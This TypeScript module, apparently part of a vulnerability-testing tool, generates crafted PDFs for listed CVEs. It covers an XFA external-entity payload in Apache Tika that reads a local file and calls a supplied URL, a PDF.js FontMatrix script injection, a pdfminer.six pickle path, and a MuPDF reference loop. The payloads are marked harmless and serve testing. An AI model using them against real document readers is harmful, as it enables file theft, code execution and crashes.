/** Holes of what reads PDF. */
import { harmless } from '../attacks/attack.ts';
import { onePage } from '../attacks/bytes.ts';
import { byFile, byTool, type Cve } from './cve.ts';

const words = 'BT /F1 12 Tf 20 100 Td (words) Tj ET';
const helvetica = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const resources = '/Font<</F1 5 0 R>>';
const slow = { seconds: 60 } as const;

export const documentHoles: readonly Cve[] = [
  byFile(
    ['CVE-2025-54988', 'Apache Tika', 'External entities of a form of XFA inside a PDF are read.'],
    harmless(
      '',
      'pdf docx',
      ({ file, call }) =>
        onePage(words, {
          resources,
          catalogue: '/AcroForm<</Fields[]/XFA 6 0 R>>',
          more: [
            helvetica,
            [
              '',
              `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY taken SYSTEM "file://${file}"><!ENTITY % more SYSTEM "${call}">%more;]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="a"><value><text>&taken;</text></value></field></subform></template></xdp:xdp>`,
            ],
          ],
        }),
      slow,
    ),
  ),
  byFile(
    ['CVE-2025-64512', 'pdfminer.six', 'The name of a map of characters leads to a file of Python objects, which is run.'],
    harmless(
      '',
      'pdf txt',
      ({ file }) =>
        onePage('BT /F1 12 Tf 20 100 Td <0001> Tj ET', {
          resources,
          more: [
            `<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/${`${file}`.replaceAll('/', '#2F')}/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(..#2F..)/Ordering(${file})/Supplement 0>>>>]>>`,
          ],
        }),
      slow,
    ),
  ),
  byFile(
    ['CVE-2024-4367', 'PDF.js', 'The matrix of a font is put together to a script, and run.'],
    harmless(
      '',
      'pdf html',
      () =>
        onePage(words, {
          resources,
          more: [
            '<</Type/Font/Subtype/Type1/BaseFont/A/FontMatrix[1 2 3 4 5 (0\\); require\\("node:fs"\\).writeFileSync\\("/tmp/hostile-matrix", ""\\)//)]/FirstChar 32/LastChar 34/Widths[1 1 1]/FontDescriptor 6 0 R>>',
            '<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 9 9]/FontFile 7 0 R>>',
            [
              '',
              '%!PS-AdobeFont-1.0: A\n/FontMatrix [1 2 3 4 5 (0\\); require("node:fs").writeFileSync("/tmp/hostile-matrix", "")//)] def\ncurrentfile eexec\n',
            ],
          ],
        }),
      slow,
    ),
  ),
  byFile(
    ['CVE-2023-31794', 'MuPDF', 'Objects that lead back to themselves are followed without an end.'],
    harmless(
      '',
      'pdf epub',
      () =>
        onePage(words, {
          resources,
          catalogue: '/Outlines 6 0 R/Names<</Dests 8 0 R>>/Pages 2 0 R',
          more: [
            helvetica,
            '<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>',
            '<</Title(a)/Parent 6 0 R/First 7 0 R/Next 7 0 R/Last 7 0 R/Dest(a)>>',
            '<</Kids[8 0 R 8 0 R]/Limits[(a)(z)]>>',
          ],
        }),
      slow,
    ),
    'https://gist.github.com/spookhorror',
  ),
  byTool(
    ['CVE-2022-38784', 'Poppler', 'A text region of a JBIG2 image is written past its end, so that code of its author runs.'],
    'pdf-pages',
  ),
];
